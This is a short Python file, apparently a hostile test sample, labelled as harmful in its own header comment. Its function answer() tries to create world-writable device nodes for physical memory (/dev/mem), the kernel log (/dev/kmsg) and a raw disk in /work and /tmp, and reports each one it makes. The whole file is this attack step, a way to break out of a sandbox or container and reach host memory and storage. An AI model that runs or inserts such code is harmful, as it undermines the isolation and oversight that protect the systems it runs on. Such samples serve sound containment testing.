# Harm: makes device nodes, to reach disks and memory.
import os
import stat


def answer():
    harm = []
    for name, kind, major, minor in (("mem", stat.S_IFCHR, 1, 1), ("kmsg", stat.S_IFCHR, 1, 11), ("disk", stat.S_IFBLK, 254, 0)):
        for folder in ("/work", "/tmp"):
            try:
                os.mknod(f"{folder}/{name}", kind | 0o666, os.makedev(major, minor))
                harm.append(f"made {folder}/{name}")
            except OSError:
                pass
    return harm
